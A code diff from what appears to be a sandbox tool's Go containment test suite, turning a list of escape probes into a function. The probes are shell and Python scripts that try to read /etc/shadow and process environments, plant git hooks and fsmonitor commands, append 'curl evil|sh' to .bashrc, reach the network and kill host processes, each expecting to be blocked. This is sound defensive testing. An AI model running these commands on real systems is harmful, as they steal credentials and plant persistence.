@@ -408,140 +408,141 @@ func sysArg(name string, nr uintptr, args ...uint64) string {
 }
 
 // probes is the containment suite (THREATS.md SBX-01..SBX-10, CVE-10, CVE-14).
-var probes = []probe{
-	// SBX-03: no secrets inside.
-	{name: "env-canary", threat: "SBX-03", what: "read the parent's API key from the environment",
-		script: `env; echo "--"; for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f"; done; echo CONTAINED`},
-	{name: "env-allowlist", threat: "SBX-03", what: "find any variable beyond the allowlist",
-		script: `extra=$(env | cut -d= -f1 | grep -vxE 'PATH|HOME|LANG|TERM|TMPDIR|PWD|SHLVL|_|OLDPWD|OUTSIDE|HOST_PORT|HOST_IP|ABSTRACT|VICTIM_PID|HOST_UID_BASE'); if [ -n "$extra" ]; then echo "ESCAPED: $extra"; else echo CONTAINED; fi`},
-	{name: "etc-shadow", threat: "SBX-03", what: "read /etc/shadow through the read-only /etc",
-		script: `if cat /etc/shadow 2>/dev/null | head -c 1 | grep -q .; then echo "ESCAPED: /etc/shadow readable"; else echo CONTAINED; fi`},
-	{name: "etc-credentials", threat: "SBX-03", what: "read credentials hosts keep in world-readable /etc files",
-		script: `for f in /etc/environment /etc/gitconfig /etc/pip.conf /etc/npmrc /etc/machine-id; do [ -s "$f" ] && echo "ESCAPED: $f has content"; done; [ -n "$(ls -A /etc/profile.d 2>/dev/null)" ] && echo "ESCAPED: /etc/profile.d listed"; echo CONTAINED`},
-	{name: "host-secret-file", threat: "SBX-03", what: "read a secret next to the workspace",
-		script: `cat "$OUTSIDE/secret.txt" ../secret.txt 2>&1; cat /proc/self/root"$OUTSIDE"/secret.txt 2>&1; echo CONTAINED`},
-	{name: "host-homes", threat: "SBX-03", what: "see /root, /home, /run, /var and other host trees",
-		script: `for p in /root/.ssh /root/.bashrc /root/.pyenv /home /run /var /srv /opt /mnt /boot /sys /old_root /.dockerenv; do [ -e "$p" ] && echo "ESCAPED: $p visible"; done; echo CONTAINED`},
-	{name: "host-sockets", threat: "SBX-03", what: "find host Unix sockets (Docker, D-Bus, SSH agent)",
-		script: `s=$(find / \( -path /proc -o -path /usr \) -prune -o -type s -print 2>/dev/null); if [ -n "$s" ]; then echo "ESCAPED: sockets $s"; else echo CONTAINED; fi`},
-	{name: "core-dumps", threat: "SBX-03", what: "dump core with secrets in memory",
-		script: `if [ "$(ulimit -c)" = 0 ]; then echo CONTAINED; else echo "ESCAPED: core limit $(ulimit -c)"; fi`},
+func baseProbes() []probe {
+	return []probe{
+		// SBX-03: no secrets inside.
+		{name: "env-canary", threat: "SBX-03", what: "read the parent's API key from the environment",
+			script: `env; echo "--"; for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f"; done; echo CONTAINED`},
+		{name: "env-allowlist", threat: "SBX-03", what: "find any variable beyond the allowlist",
+			script: `extra=$(env | cut -d= -f1 | grep -vxE 'PATH|HOME|LANG|TERM|TMPDIR|PWD|SHLVL|_|OLDPWD|OUTSIDE|HOST_PORT|HOST_IP|ABSTRACT|VICTIM_PID|HOST_UID_BASE'); if [ -n "$extra" ]; then echo "ESCAPED: $extra"; else echo CONTAINED; fi`},
+		{name: "etc-shadow", threat: "SBX-03", what: "read /etc/shadow through the read-only /etc",
+			script: `if cat /etc/shadow 2>/dev/null | head -c 1 | grep -q .; then echo "ESCAPED: /etc/shadow readable"; else echo CONTAINED; fi`},
+		{name: "etc-credentials", threat: "SBX-03", what: "read credentials hosts keep in world-readable /etc files",
+			script: `for f in /etc/environment /etc/gitconfig /etc/pip.conf /etc/npmrc /etc/machine-id; do [ -s "$f" ] && echo "ESCAPED: $f has content"; done; [ -n "$(ls -A /etc/profile.d 2>/dev/null)" ] && echo "ESCAPED: /etc/profile.d listed"; echo CONTAINED`},
+		{name: "host-secret-file", threat: "SBX-03", what: "read a secret next to the workspace",
+			script: `cat "$OUTSIDE/secret.txt" ../secret.txt 2>&1; cat /proc/self/root"$OUTSIDE"/secret.txt 2>&1; echo CONTAINED`},
+		{name: "host-homes", threat: "SBX-03", what: "see /root, /home, /run, /var and other host trees",
+			script: `for p in /root/.ssh /root/.bashrc /root/.pyenv /home /run /var /srv /opt /mnt /boot /sys /old_root /.dockerenv; do [ -e "$p" ] && echo "ESCAPED: $p visible"; done; echo CONTAINED`},
+		{name: "host-sockets", threat: "SBX-03", what: "find host Unix sockets (Docker, D-Bus, SSH agent)",
+			script: `s=$(find / \( -path /proc -o -path /usr \) -prune -o -type s -print 2>/dev/null); if [ -n "$s" ]; then echo "ESCAPED: sockets $s"; else echo CONTAINED; fi`},
+		{name: "core-dumps", threat: "SBX-03", what: "dump core with secrets in memory",
+			script: `if [ "$(ulimit -c)" = 0 ]; then echo CONTAINED; else echo "ESCAPED: core limit $(ulimit -c)"; fi`},
 
-	// SBX-01, CVE-14: writes outside the workspace and link escapes.
-	{name: "write-outside", threat: "SBX-01", what: "write next to the workspace and into system directories",
-		script: `echo x > "$OUTSIDE/pwned" 2>/dev/null; echo x > ../pwned2 2>/dev/null; for p in /etc/pwned /usr/pwned /pwned /bin/pwned /proc/pwned /dev/pwned; do touch $p 2>/dev/null && echo "ESCAPED: created $p"; done; echo CONTAINED`,
-		check: func(env *probeEnv, ws string, _ *Result, _ string) error {
-			return mustNotExist(filepath.Join(env.base, "pwned"), filepath.Join(env.base, "pwned2"), "/etc/pwned", "/usr/pwned")
-		}},
-	{name: "symlink-read", threat: "CVE-14", what: "read a host file through a symlink made in the workspace",
-		script: `ln -s "$OUTSIDE/secret.txt" link; cat link 2>&1; ln -s / rootlink; cat rootlink/etc/shadow 2>&1 | head -c 20; echo; echo CONTAINED`},
-	{name: "symlink-write", threat: "CVE-14", what: "write a host file through a symlink made in the workspace",
-		script: `ln -s "$OUTSIDE/victim.txt" l2; echo pwn > l2 2>/dev/null; ln -s "$OUTSIDE" dirlink; echo pwn > dirlink/victim2.txt 2>/dev/null; echo CONTAINED`,
-		check: func(env *probeEnv, ws string, _ *Result, _ string) error {
-			return mustNotExist(filepath.Join(env.base, "victim.txt"), filepath.Join(env.base, "victim2.txt"))
-		}},
-	{name: "hardlink", threat: "CVE-14", what: "hard-link host files into the workspace",
-		script: `ln /etc/passwd hl1 2>/dev/null && echo "ESCAPED: linked /etc/passwd"; ln "$OUTSIDE/secret.txt" hl2 2>/dev/null && echo "ESCAPED: linked the secret"; echo CONTAINED`},
-	{name: "git-hooks-config", threat: "CVE-10", what: "plant a git hook or rewrite .git/config for the host to run",
-		script: `echo '#!/bin/sh' > .git/hooks/pre-commit 2>/dev/null && echo "ESCAPED: hook written"; printf '[core]\n\tfsmonitor = evil\n' >> .git/config 2>/dev/null && echo "ESCAPED: config written"; mv .git .git-old 2>/dev/null && echo "ESCAPED: .git renamed"; rm -rf .git/hooks 2>/dev/null; echo CONTAINED`,
-		check: func(env *probeEnv, ws string, _ *Result, _ string) error {
-			if err := fileUnchanged(filepath.Join(ws, ".git/config"), "[core]\n\trepositoryformatversion = 0\n"); err != nil {
-				return err
-			}
-			return mustNotExist(filepath.Join(ws, ".git/hooks/pre-commit"), filepath.Join(ws, ".git-old"))
-		}},
-	{name: "git-redirect", threat: "CVE-10", what: "send the host's git elsewhere: write .git/commondir, HEAD, objects, refs",
-		script: `mkdir -p evil && printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > evil/config; echo ../evil > .git/commondir 2>/dev/null && echo "ESCAPED: commondir written"; echo 'ref: refs/heads/evil' > .git/HEAD 2>/dev/null && echo "ESCAPED: HEAD written"; mkdir -p .git/objects/ab .git/refs/heads 2>/dev/null && echo "ESCAPED: objects and refs created"; echo x > .git/gitdir 2>/dev/null && echo "ESCAPED: gitdir written"; rm -f .git/HEAD 2>/dev/null && echo "ESCAPED: HEAD removed"; echo CONTAINED`,
-		check: func(_ *probeEnv, ws string, _ *Result, _ string) error {
-			if err := fileUnchanged(filepath.Join(ws, ".git/HEAD"), "ref: refs/heads/main\n"); err != nil {
-				return err
-			}
-			return mustNotExist(filepath.Join(ws, ".git/commondir"), filepath.Join(ws, ".git/objects"), filepath.Join(ws, ".git/gitdir"))
-		}},
-	{name: "git-create", threat: "CVE-10", what: "create .git (a gitdir: file and repo/config) in a workspace without one",
-		setup:  func(ws string) error { return os.RemoveAll(filepath.Join(ws, ".git")) },
-		script: `mkdir -p repo && printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > repo/config; rm -rf .git 2>/dev/null; rmdir .git 2>/dev/null && echo "ESCAPED: placeholder removed"; printf 'gitdir: repo\n' > .git 2>/dev/null && echo "ESCAPED: .git file created"; mkdir .git/objects 2>/dev/null && echo "ESCAPED: wrote into .git"; git init -q . 2>/dev/null && echo "ESCAPED: git init"; echo CONTAINED`,
-		check: func(_ *probeEnv, ws string, _ *Result, _ string) error {
-			if st, err := os.Lstat(filepath.Join(ws, ".git")); err != nil || !st.IsDir() || !isEmptyDir(filepath.Join(ws, ".git")) {
-				return fmt.Errorf("the workspace's .git is not the empty placeholder after the run (%v)", err)
-			}
-			return nil
-		}},
-	{name: "git-nested", threat: "CVE-10", what: "rewrite a nested repository's .git or move it aside",
-		setup: func(ws string) error {
-			if err := os.MkdirAll(filepath.Join(ws, "sub/.git/hooks"), 0o755); err != nil {
-				return err
-			}
-			return os.WriteFile(filepath.Join(ws, "sub/.git/config"), []byte("[core]\n\tbare = false\n"), 0o644)
-		},
-		script: `printf '[core]\n\tfsmonitor = evil\n' >> sub/.git/config 2>/dev/null && echo "ESCAPED: nested config written"; echo x > sub/.git/hooks/post-checkout 2>/dev/null && echo "ESCAPED: nested hook written"; mv sub/.git sub/.git-old 2>/dev/null && echo "ESCAPED: nested .git moved"; mv sub sub-old 2>/dev/null && echo "ESCAPED: nested work tree moved"; echo CONTAINED`,
-		check: func(_ *probeEnv, ws string, _ *Result, _ string) error {
-			if err := fileUnchanged(filepath.Join(ws, "sub/.git/config"), "[core]\n\tbare = false\n"); err != nil {
-				return err
-			}
-			return mustNotExist(filepath.Join(ws, "sub/.git/hooks/post-checkout"), filepath.Join(ws, "sub/.git-old"))
-		}},
-	{name: "git-allow-write", threat: "CVE-10", what: "with --allow-git-write: hooks, config, info/, commondir (a new one is removed after the run)",
-		config: func(_ *probeEnv, c *Config) { c.AllowGitWrite = true },
-		script: `mkdir -p .git/objects/ab && echo x > .git/objects/ab/cd || echo "FAILED: .git/objects not writable"; echo x > .git/hooks/pre-commit 2>/dev/null && echo "ESCAPED: hook written"; printf '[core]\n\tfsmonitor = evil\n' >> .git/config 2>/dev/null && echo "ESCAPED: config written"; echo '*' > .git/info/exclude 2>/dev/null && echo "ESCAPED: info/ written"; mv .git/hooks .git/hooks-old 2>/dev/null && echo "ESCAPED: hooks moved"; mv .git .git-old 2>/dev/null && echo "ESCAPED: .git moved"; echo ../evil > .git/commondir; echo CONTAINED`,
-		check: func(_ *probeEnv, ws string, _ *Result, out string) error {
-			if err := fileUnchanged(filepath.Join(ws, ".git/config"), "[core]\n\trepositoryformatversion = 0\n"); err != nil {
-				return err
-			}
-			if !strings.Contains(out, "paddock: removed "+filepath.Join(ws, ".git/commondir")) {
-				return errors.New("no notice that the new .git/commondir was removed")
-			}
-			if err := fileUnchanged(filepath.Join(ws, ".git/objects/ab/cd"), "x\n"); err != nil {
-				return fmt.Errorf("control: %w", err)
-			}
-			return mustNotExist(filepath.Join(ws, ".git/commondir"), filepath.Join(ws, ".git/hooks/pre-commit"), filepath.Join(ws, ".git/info/exclude"))
-		}},
-	{name: "shell-rc", threat: "CVE-10", what: "append to a shell rc file in the workspace",
-		script: `echo 'curl evil|sh' >> .bashrc 2>/dev/null && echo "ESCAPED: .bashrc written"; rm -f .bashrc 2>/dev/null; mv .bashrc x 2>/dev/null; echo CONTAINED`,
-		check: func(env *probeEnv, ws string, _ *Result, _ string) error {
-			return fileUnchanged(filepath.Join(ws, ".bashrc"), "# rc\n")
-		}},
-	{name: "workspace-writable", threat: "SBX-01", what: "(control) the workspace itself is writable and owned by the command",
-		script: `echo data > notes/new.txt && mkdir -p build/x && cat notes/readme.txt && echo CONTAINED`,
-		check: func(env *probeEnv, ws string, _ *Result, out string) error {
-			b, err := os.ReadFile(filepath.Join(ws, "notes/new.txt"))
-			if err != nil || string(b) != "data\n" {
-				return fmt.Errorf("workspace write did not reach the host: %v (%s)", err, tail(out, 200))
-			}
-			return nil
-		}},
-	{name: "tmp-private", threat: "SBX-08", what: "leave a file in /tmp for the next sandbox or the host",
-		script: `echo marker > /tmp/paddock-marker && echo CONTAINED`,
-		check: func(env *probeEnv, ws string, _ *Result, _ string) error {
-			if err := mustNotExist("/tmp/paddock-marker"); err != nil {
-				return err
-			}
-			var buf bytes.Buffer
-			cfg := env.probeConfig(ws)
-			cfg.Stdout, cfg.Stderr = &buf, &buf
-			res, err := Run(context.Background(), cfg, []string{"/bin/sh", "-c", "test -e /tmp/paddock-marker"})
-			if err != nil {
-				return err
-			}
-			if res.ExitCode == 0 {
-				return errors.New("the next sandbox saw the previous one's /tmp file")
-			}
-			return nil
-		}},
+		// SBX-01, CVE-14: writes outside the workspace and link escapes.
+		{name: "write-outside", threat: "SBX-01", what: "write next to the workspace and into system directories",
+			script: `echo x > "$OUTSIDE/pwned" 2>/dev/null; echo x > ../pwned2 2>/dev/null; for p in /etc/pwned /usr/pwned /pwned /bin/pwned /proc/pwned /dev/pwned; do touch $p 2>/dev/null && echo "ESCAPED: created $p"; done; echo CONTAINED`,
+			check: func(env *probeEnv, ws string, _ *Result, _ string) error {
+				return mustNotExist(filepath.Join(env.base, "pwned"), filepath.Join(env.base, "pwned2"), "/etc/pwned", "/usr/pwned")
+			}},
+		{name: "symlink-read", threat: "CVE-14", what: "read a host file through a symlink made in the workspace",
+			script: `ln -s "$OUTSIDE/secret.txt" link; cat link 2>&1; ln -s / rootlink; cat rootlink/etc/shadow 2>&1 | head -c 20; echo; echo CONTAINED`},
+		{name: "symlink-write", threat: "CVE-14", what: "write a host file through a symlink made in the workspace",
+			script: `ln -s "$OUTSIDE/victim.txt" l2; echo pwn > l2 2>/dev/null; ln -s "$OUTSIDE" dirlink; echo pwn > dirlink/victim2.txt 2>/dev/null; echo CONTAINED`,
+			check: func(env *probeEnv, ws string, _ *Result, _ string) error {
+				return mustNotExist(filepath.Join(env.base, "victim.txt"), filepath.Join(env.base, "victim2.txt"))
+			}},
+		{name: "hardlink", threat: "CVE-14", what: "hard-link host files into the workspace",
+			script: `ln /etc/passwd hl1 2>/dev/null && echo "ESCAPED: linked /etc/passwd"; ln "$OUTSIDE/secret.txt" hl2 2>/dev/null && echo "ESCAPED: linked the secret"; echo CONTAINED`},
+		{name: "git-hooks-config", threat: "CVE-10", what: "plant a git hook or rewrite .git/config for the host to run",
+			script: `echo '#!/bin/sh' > .git/hooks/pre-commit 2>/dev/null && echo "ESCAPED: hook written"; printf '[core]\n\tfsmonitor = evil\n' >> .git/config 2>/dev/null && echo "ESCAPED: config written"; mv .git .git-old 2>/dev/null && echo "ESCAPED: .git renamed"; rm -rf .git/hooks 2>/dev/null; echo CONTAINED`,
+			check: func(env *probeEnv, ws string, _ *Result, _ string) error {
+				if err := fileUnchanged(filepath.Join(ws, ".git/config"), "[core]\n\trepositoryformatversion = 0\n"); err != nil {
+					return err
+				}
+				return mustNotExist(filepath.Join(ws, ".git/hooks/pre-commit"), filepath.Join(ws, ".git-old"))
+			}},
+		{name: "git-redirect", threat: "CVE-10", what: "send the host's git elsewhere: write .git/commondir, HEAD, objects, refs",
+			script: `mkdir -p evil && printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > evil/config; echo ../evil > .git/commondir 2>/dev/null && echo "ESCAPED: commondir written"; echo 'ref: refs/heads/evil' > .git/HEAD 2>/dev/null && echo "ESCAPED: HEAD written"; mkdir -p .git/objects/ab .git/refs/heads 2>/dev/null && echo "ESCAPED: objects and refs created"; echo x > .git/gitdir 2>/dev/null && echo "ESCAPED: gitdir written"; rm -f .git/HEAD 2>/dev/null && echo "ESCAPED: HEAD removed"; echo CONTAINED`,
+			check: func(_ *probeEnv, ws string, _ *Result, _ string) error {
+				if err := fileUnchanged(filepath.Join(ws, ".git/HEAD"), "ref: refs/heads/main\n"); err != nil {
+					return err
+				}
+				return mustNotExist(filepath.Join(ws, ".git/commondir"), filepath.Join(ws, ".git/objects"), filepath.Join(ws, ".git/gitdir"))
+			}},
+		{name: "git-create", threat: "CVE-10", what: "create .git (a gitdir: file and repo/config) in a workspace without one",
+			setup:  func(ws string) error { return os.RemoveAll(filepath.Join(ws, ".git")) },
+			script: `mkdir -p repo && printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > repo/config; rm -rf .git 2>/dev/null; rmdir .git 2>/dev/null && echo "ESCAPED: placeholder removed"; printf 'gitdir: repo\n' > .git 2>/dev/null && echo "ESCAPED: .git file created"; mkdir .git/objects 2>/dev/null && echo "ESCAPED: wrote into .git"; git init -q . 2>/dev/null && echo "ESCAPED: git init"; echo CONTAINED`,
+			check: func(_ *probeEnv, ws string, _ *Result, _ string) error {
+				if st, err := os.Lstat(filepath.Join(ws, ".git")); err != nil || !st.IsDir() || !isEmptyDir(filepath.Join(ws, ".git")) {
+					return fmt.Errorf("the workspace's .git is not the empty placeholder after the run (%v)", err)
+				}
+				return nil
+			}},
+		{name: "git-nested", threat: "CVE-10", what: "rewrite a nested repository's .git or move it aside",
+			setup: func(ws string) error {
+				if err := os.MkdirAll(filepath.Join(ws, "sub/.git/hooks"), 0o755); err != nil {
+					return err
+				}
+				return os.WriteFile(filepath.Join(ws, "sub/.git/config"), []byte("[core]\n\tbare = false\n"), 0o644)
+			},
+			script: `printf '[core]\n\tfsmonitor = evil\n' >> sub/.git/config 2>/dev/null && echo "ESCAPED: nested config written"; echo x > sub/.git/hooks/post-checkout 2>/dev/null && echo "ESCAPED: nested hook written"; mv sub/.git sub/.git-old 2>/dev/null && echo "ESCAPED: nested .git moved"; mv sub sub-old 2>/dev/null && echo "ESCAPED: nested work tree moved"; echo CONTAINED`,
+			check: func(_ *probeEnv, ws string, _ *Result, _ string) error {
+				if err := fileUnchanged(filepath.Join(ws, "sub/.git/config"), "[core]\n\tbare = false\n"); err != nil {
+					return err
+				}
+				return mustNotExist(filepath.Join(ws, "sub/.git/hooks/post-checkout"), filepath.Join(ws, "sub/.git-old"))
+			}},
+		{name: "git-allow-write", threat: "CVE-10", what: "with --allow-git-write: hooks, config, info/, commondir (a new one is removed after the run)",
+			config: func(_ *probeEnv, c *Config) { c.AllowGitWrite = true },
+			script: `mkdir -p .git/objects/ab && echo x > .git/objects/ab/cd || echo "FAILED: .git/objects not writable"; echo x > .git/hooks/pre-commit 2>/dev/null && echo "ESCAPED: hook written"; printf '[core]\n\tfsmonitor = evil\n' >> .git/config 2>/dev/null && echo "ESCAPED: config written"; echo '*' > .git/info/exclude 2>/dev/null && echo "ESCAPED: info/ written"; mv .git/hooks .git/hooks-old 2>/dev/null && echo "ESCAPED: hooks moved"; mv .git .git-old 2>/dev/null && echo "ESCAPED: .git moved"; echo ../evil > .git/commondir; echo CONTAINED`,
+			check: func(_ *probeEnv, ws string, _ *Result, out string) error {
+				if err := fileUnchanged(filepath.Join(ws, ".git/config"), "[core]\n\trepositoryformatversion = 0\n"); err != nil {
+					return err
+				}
+				if !strings.Contains(out, "paddock: removed "+filepath.Join(ws, ".git/commondir")) {
+					return errors.New("no notice that the new .git/commondir was removed")
+				}
+				if err := fileUnchanged(filepath.Join(ws, ".git/objects/ab/cd"), "x\n"); err != nil {
+					return fmt.Errorf("control: %w", err)
+				}
+				return mustNotExist(filepath.Join(ws, ".git/commondir"), filepath.Join(ws, ".git/hooks/pre-commit"), filepath.Join(ws, ".git/info/exclude"))
+			}},
+		{name: "shell-rc", threat: "CVE-10", what: "append to a shell rc file in the workspace",
+			script: `echo 'curl evil|sh' >> .bashrc 2>/dev/null && echo "ESCAPED: .bashrc written"; rm -f .bashrc 2>/dev/null; mv .bashrc x 2>/dev/null; echo CONTAINED`,
+			check: func(env *probeEnv, ws string, _ *Result, _ string) error {
+				return fileUnchanged(filepath.Join(ws, ".bashrc"), "# rc\n")
+			}},
+		{name: "workspace-writable", threat: "SBX-01", what: "(control) the workspace itself is writable and owned by the command",
+			script: `echo data > notes/new.txt && mkdir -p build/x && cat notes/readme.txt && echo CONTAINED`,
+			check: func(env *probeEnv, ws string, _ *Result, out string) error {
+				b, err := os.ReadFile(filepath.Join(ws, "notes/new.txt"))
+				if err != nil || string(b) != "data\n" {
+					return fmt.Errorf("workspace write did not reach the host: %v (%s)", err, tail(out, 200))
+				}
+				return nil
+			}},
+		{name: "tmp-private", threat: "SBX-08", what: "leave a file in /tmp for the next sandbox or the host",
+			script: `echo marker > /tmp/paddock-marker && echo CONTAINED`,
+			check: func(env *probeEnv, ws string, _ *Result, _ string) error {
+				if err := mustNotExist("/tmp/paddock-marker"); err != nil {
+					return err
+				}
+				var buf bytes.Buffer
+				cfg := env.probeConfig(ws)
+				cfg.Stdout, cfg.Stderr = &buf, &buf
+				res, err := Run(context.Background(), cfg, []string{"/bin/sh", "-c", "test -e /tmp/paddock-marker"})
+				if err != nil {
+					return err
+				}
+				if res.ExitCode == 0 {
+					return errors.New("the next sandbox saw the previous one's /tmp file")
+				}
+				return nil
+			}},
 
-	// SBX-04, SBX-07: network.
-	{name: "net-interfaces", threat: "SBX-04", what: "find a network interface besides loopback",
-		script: `ifs=$(awk -F: 'NR>2 {gsub(/ /,"",$1); print $1}' /proc/net/dev | tr '\n' ' '); if [ "$ifs" = "lo " ]; then echo CONTAINED; else echo "ESCAPED: interfaces $ifs"; fi`},
-	{name: "tcp-internet", threat: "SBX-04", what: "connect to the internet directly",
-		script: `python3 -c '
+		// SBX-04, SBX-07: network.
+		{name: "net-interfaces", threat: "SBX-04", what: "find a network interface besides loopback",
+			script: `ifs=$(awk -F: 'NR>2 {gsub(/ /,"",$1); print $1}' /proc/net/dev | tr '\n' ' '); if [ "$ifs" = "lo " ]; then echo CONTAINED; else echo "ESCAPED: interfaces $ifs"; fi`},
+		{name: "tcp-internet", threat: "SBX-04", what: "connect to the internet directly",
+			script: `python3 -c '
 import socket
 for a in [("1.1.1.1", 443), ("8.8.8.8", 53)]:
     try:
         socket.create_connection(a, timeout=2); print("ESCAPED: connected to", a)
     except OSError as e: print(a, e)
 print("CONTAINED")'`},
-	{name: "dns", threat: "SBX-04", what: "resolve a name or send a DNS query (exfiltration channel)",
-		script: `python3 -c '
+		{name: "dns", threat: "SBX-04", what: "resolve a name or send a DNS query (exfiltration channel)",
+			script: `python3 -c '
 import socket
 try:
     print("ESCAPED: resolved", socket.getaddrinfo("example.com", 443))
@@ -552,8 +553,8 @@ try:
     s.settimeout(2); s.recv(512); print("ESCAPED: DNS answer")
 except OSError as e: print("udp:", e)
 print("CONTAINED")'`},
-	{name: "host-loopback", threat: "SBX-07", what: "reach a service on the host's loopback and its own IP",
-		script: `python3 -c '
+		{name: "host-loopback", threat: "SBX-07", what: "reach a service on the host's loopback and its own IP",
+			script: `python3 -c '
 import os, socket
 port = int(os.environ["HOST_PORT"])
 for h in ["127.0.0.1", os.environ.get("HOST_IP") or "127.0.0.2", "::1"]:
@@ -561,85 +562,85 @@ for h in ["127.0.0.1", os.environ.get("HOST_IP") or "127.0.0.2", "::1"]:
         socket.create_connection((h, port), timeout=2); print("ESCAPED: connected to", h)
     except OSError as e: print(h, e)
 print("CONTAINED")'`,
-		check: func(env *probeEnv, _ string, _ *Result, _ string) error {
-			if n := env.accepts.Load(); n > 0 {
-				return fmt.Errorf("the host listener accepted %d connection(s)", n)
-			}
-			return nil
-		}},
-	{name: "ipv6", threat: "SBX-04", what: "leave over IPv6",
-		script: `python3 -c '
+			check: func(env *probeEnv, _ string, _ *Result, _ string) error {
+				if n := env.accepts.Load(); n > 0 {
+					return fmt.Errorf("the host listener accepted %d connection(s)", n)
+				}
+				return nil
+			}},
+		{name: "ipv6", threat: "SBX-04", what: "leave over IPv6",
+			script: `python3 -c '
 import socket
 for a in [("2606:4700:4700::1111", 443), ("::ffff:1.1.1.1", 443)]:
     try:
         socket.create_connection(a, timeout=2); print("ESCAPED:", a)
     except OSError as e: print(a, e)
 print("CONTAINED")'`},
-	{name: "raw-packet-netlink", threat: "SBX-04", what: "open raw, packet and netlink sockets",
-		script: `python3 -c '
+		{name: "raw-packet-netlink", threat: "SBX-04", what: "open raw, packet and netlink sockets",
+			script: `python3 -c '
 import socket
 for fam, typ, proto, name in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, "raw icmp"), (socket.AF_INET6, socket.SOCK_RAW, 58, "raw icmpv6"), (socket.AF_PACKET, socket.SOCK_RAW, 0, "packet"), (socket.AF_NETLINK, socket.SOCK_RAW, 0, "netlink")]:
     try:
         socket.socket(fam, typ, proto); print("ESCAPED:", name)
     except OSError as e: print(name, e)
 print("CONTAINED")'`,
-	},
-	{name: "tcp-bind", threat: "SBX-04", what: "open a listening TCP port (Landlock ABI 4+)",
-		script: `python3 -c '
+		},
+		{name: "tcp-bind", threat: "SBX-04", what: "open a listening TCP port (Landlock ABI 4+)",
+			script: `python3 -c '
 import socket
 s = socket.socket()
 try:
     s.bind(("127.0.0.1", 8080)); s.listen(); print("ESCAPED: listening")
 except OSError as e: print(e)
 print("CONTAINED")'`},
-	{name: "abstract-unix", threat: "SBX-07", what: "connect to a host abstract Unix socket",
-		script: `python3 -c '
+		{name: "abstract-unix", threat: "SBX-07", what: "connect to a host abstract Unix socket",
+			script: `python3 -c '
 import os, socket
 s = socket.socket(socket.AF_UNIX)
 try:
     s.connect("\0" + os.environ["ABSTRACT"]); print("ESCAPED: connected")
 except OSError as e: print(e)
 print("CONTAINED")'`,
-		check: func(env *probeEnv, _ string, _ *Result, _ string) error {
-			if n := env.absHits.Load(); n > 0 {
-				return fmt.Errorf("the host abstract socket accepted %d connection(s)", n)
-			}
-			return nil
-		}},
+			check: func(env *probeEnv, _ string, _ *Result, _ string) error {
+				if n := env.absHits.Load(); n > 0 {
+					return fmt.Errorf("the host abstract socket accepted %d connection(s)", n)
+				}
+				return nil
+			}},
 
-	// SBX-02: hardening.
-	{name: "capabilities", threat: "SBX-02", what: "hold any capability, lack no_new_privs or seccomp",
-		script: `grep -E '^(Cap(Inh|Prm|Eff|Bnd|Amb)|NoNewPrivs|Seccomp):' /proc/self/status; bad=$(grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb):' /proc/self/status | grep -v '0000000000000000'); grep -q '^NoNewPrivs:[[:space:]]*1' /proc/self/status || bad="$bad nnp"; grep -q '^Seccomp:[[:space:]]*2' /proc/self/status || bad="$bad seccomp"; if [ -n "$bad" ]; then echo "ESCAPED: $bad"; else echo CONTAINED; fi`},
-	{name: "host-uid", threat: "SBX-02", what: "run as a privileged host uid or keep host groups",
-		script: `cat /proc/self/uid_map; bad=$(awk '$2 < 1000000 {print "host uid " $2}' /proc/self/uid_map /proc/self/gid_map); g=$(grep '^Groups:' /proc/self/status | cut -f2 | tr -d ' '); [ -n "$g" ] && bad="$bad groups $g"; if [ -n "$bad" ]; then echo "ESCAPED: $bad"; else echo CONTAINED; fi`},
-	{name: "host-pids", threat: "SBX-02", what: "see host processes",
-		script: `n=$(ls -d /proc/[0-9]* | wc -l); echo "$n processes; pid 1: $(cat /proc/1/comm)"; if [ "$n" -le 6 ] && [ -d /proc/1 ] && ! grep -qs . /proc/$VICTIM_PID/cmdline; then echo CONTAINED; else echo "ESCAPED: host processes visible"; fi`},
-	{name: "signal-host", threat: "SBX-02", what: "kill a host process",
-		script: `kill -9 "$VICTIM_PID" 2>&1; kill -9 -1 2>&1; echo CONTAINED`,
-		check: func(env *probeEnv, _ string, _ *Result, _ string) error {
-			if err := env.victim.Process.Signal(unix.Signal(0)); err != nil {
-				return fmt.Errorf("the host victim process died: %v", err)
-			}
-			return nil
-		}},
-	{name: "mount", threat: "SBX-02", what: "mount, bind-mount or unmount",
-		script: `mkdir -p /tmp/m; mount -t tmpfs none /tmp/m 2>/dev/null && echo "ESCAPED: tmpfs mounted"; mount --bind / /tmp/m 2>/dev/null && echo "ESCAPED: bind"; umount -l /proc 2>/dev/null && echo "ESCAPED: umount"; ` +
-			denied(sysArg("mount", unix.SYS_MOUNT), sysArg("umount2", unix.SYS_UMOUNT2), sysArg("pivot_root", unix.SYS_PIVOT_ROOT), sysArg("open_tree", unix.SYS_OPEN_TREE), sysArg("fsopen", unix.SYS_FSOPEN), sysArg("chroot", unix.SYS_CHROOT))},
-	{name: "namespaces", threat: "SBX-02", what: "create nested namespaces (unshare -r, clone flags, setns)",
-		script: `unshare -U -r true 2>/dev/null && echo "ESCAPED: unshare -Ur"; unshare -n true 2>/dev/null && echo "ESCAPED: unshare -n"; ` +
-			denied(sysArg("unshare-user", unix.SYS_UNSHARE, unix.CLONE_NEWUSER), sysArg("unshare-mnt", unix.SYS_UNSHARE, unix.CLONE_NEWNS), sysArg("setns", unix.SYS_SETNS, 0, 0), sysArg("clone-newuser", unix.SYS_CLONE, unix.CLONE_NEWUSER), sysArg("clone3", unix.SYS_CLONE3, 0, 0))},
-	{name: "ptrace", threat: "SBX-02", what: "trace or read another process's memory",
-		script: `strace -f true >/dev/null 2>&1 && echo "ESCAPED: strace ran"; ` +
-			denied(sysArg("ptrace-traceme", unix.SYS_PTRACE, 0), sysArg("ptrace-attach", unix.SYS_PTRACE, 16, 1), sysArg("process_vm_readv", unix.SYS_PROCESS_VM_READV, 1, 0, 0, 0, 0, 0), sysArg("pidfd_getfd", unix.SYS_PIDFD_GETFD, 0, 0, 0))},
-	{name: "devices", threat: "SBX-02", what: "reach host devices or create device nodes",
